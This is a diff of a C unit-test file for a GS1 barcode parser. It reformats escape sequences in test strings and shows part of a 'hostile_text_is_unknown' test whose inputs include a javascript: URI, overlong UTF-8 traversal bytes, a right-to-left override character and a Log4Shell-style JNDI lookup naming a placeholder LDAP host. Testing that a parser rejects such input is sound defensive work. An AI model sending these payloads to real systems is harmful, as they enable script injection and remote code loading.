@@ -109,8 +109,7 @@ static void gs1_codes_name_their_article(void **state)
         "]c10109506000134352",
         "]e00109506000134352",
         "]E00109506000134352",
-        "]d2010950600013435210ABC\x1D"
-        "17261231",
+        "]d2010950600013435210ABC\03517261231",
         "]Q30109506000134352\r\n",
         "https://id.gs1.org/01/09506000134352",
         "https://example.com/01/9506000134352",
@@ -255,8 +254,7 @@ static void hostile_text_is_unknown(void **state)
         "javascript:alert(1)",
         "\xFF\xFE\x41",
         "\xC0\xAF..\xC0\xAF",
-        "\xE2\x80\xAE"
-        "13933318360",
+        "\342\200\25613933318360",
         "${jndi:ldap://example.com/a}",
         "]",
         "]Q",
